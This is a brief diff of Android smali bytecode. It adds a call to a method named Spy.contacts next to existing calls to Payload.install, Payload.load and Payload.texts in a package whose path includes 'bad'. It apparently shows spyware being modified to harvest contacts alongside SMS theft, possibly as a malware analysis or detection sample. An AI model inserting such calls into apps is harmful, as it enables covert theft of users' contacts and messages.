@@ -17,5 +17,6 @@
     invoke-static {p0}, Lcom/appwarden/screen/bad/Payload;->install(Landroid/content/Context;)V
     invoke-static {p0}, Lcom/appwarden/screen/bad/Payload;->load(Landroid/content/Context;)V
     invoke-static {}, Lcom/appwarden/screen/bad/Payload;->texts()V
+    invoke-static {p0}, Lcom/appwarden/screen/bad/Spy;->contacts(Landroid/content/Context;)V
     return-void
 .end method
